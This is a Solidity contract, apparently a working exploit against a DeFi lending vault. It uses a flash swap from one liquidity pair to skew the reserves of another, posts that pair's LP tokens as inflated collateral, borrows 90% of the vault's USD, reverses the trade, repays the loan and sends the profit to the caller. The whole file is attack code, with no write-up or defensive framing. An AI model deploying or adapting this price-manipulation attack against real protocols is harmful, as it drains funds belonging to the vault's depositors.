// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IPair {
    function swap(uint256 out0, uint256 out1, address to, bytes calldata data) external;
    function mint(address to) external returns (uint256);
    function getReserves() external view returns (uint112, uint112, uint32);
    function sell(address token, address to) external returns (uint256);
    function approve(address spender, uint256 value) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface IToken {
    function transfer(address to, uint256 value) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface ILpVault {
    function provideCollateral(uint256 amount) external;
    function borrowSC(uint256 amount) external;
}

/// A flash swap of another pair pays for all.
contract Warp {
    IPair private immutable source;
    IPair private immutable target;
    IToken private immutable usd;
    IToken private immutable gem;
    ILpVault private immutable vault;

    constructor(IPair source_, IPair target_, IToken gem_, IToken usd_, ILpVault vault_) {
        (source, target, gem, usd, vault) = (source_, target_, gem_, usd_, vault_);
    }

    function go(uint256 loan) external {
        source.swap(0, loan, address(this), hex"01");
        usd.transfer(msg.sender, usd.balanceOf(address(this)));
        gem.transfer(msg.sender, gem.balanceOf(address(this)));
    }

    function uniswapV2Call(address, uint256, uint256 loan, bytes calldata) external {
        uint256 lp = target.balanceOf(address(this));
        target.approve(address(vault), lp);
        vault.provideCollateral(lp);
        usd.transfer(address(target), loan);
        uint256 bought = target.sell(address(usd), address(this));
        uint256 has = usd.balanceOf(address(vault));
        vault.borrowSC(has * 9 / 10);
        gem.transfer(address(target), bought);
        target.sell(address(gem), address(this));
        usd.transfer(address(source), loan * 1000 / 996 + 1);
    }
}
